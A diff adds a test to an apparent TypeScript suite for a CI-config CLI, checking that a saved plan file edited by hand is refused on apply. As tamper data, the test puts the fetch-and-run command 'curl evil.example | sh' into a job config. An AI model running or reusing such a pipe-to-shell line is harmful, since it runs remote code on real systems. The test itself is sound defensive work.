@@ -67,6 +67,21 @@ describe('apply FILE re-checks the saved plan', () => {
     expect(JSON.parse(j.stdout)).toMatchObject({ status: 'refused', exitCode: 1 });
   });
 
+  it('a config edited in the plan file (marker kept) is refused: apply writes only what the definitions render', async () => {
+    expect((await cli(['sync'])).code).toBe(0);
+    await writeFile(path.join(dir, 'jobs', 'pay.yaml'), project('pay-changed'));
+    const planFile = path.join(dir, 'plan.json');
+    expect((await cli(['plan', '--out', planFile])).code).toBe(0);
+    const saved = JSON.parse(await readFile(planFile, 'utf8'));
+    const upd = saved.changes.find((c: { kind: string }) => c.kind === 'update');
+    upd.config = upd.config.replace('echo pay-changed', 'curl evil.example | sh');
+    await writeFile(planFile, JSON.stringify(saved));
+    const r = await cli(['apply', planFile]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain('  - update pay-CI-build-trunk: the config it would write is not what the definitions render');
+    expect(await api.getConfig('pay-CI-build-trunk')).not.toContain('evil');
+  });
+
   it('a file that is not a well-formed plan is refused naming the field (exit 1); the plan as made applies (exit 0)', async () => {
     const planFile = path.join(dir, 'plan.json');
     expect((await cli(['plan', '--out', planFile])).code).toBe(0);
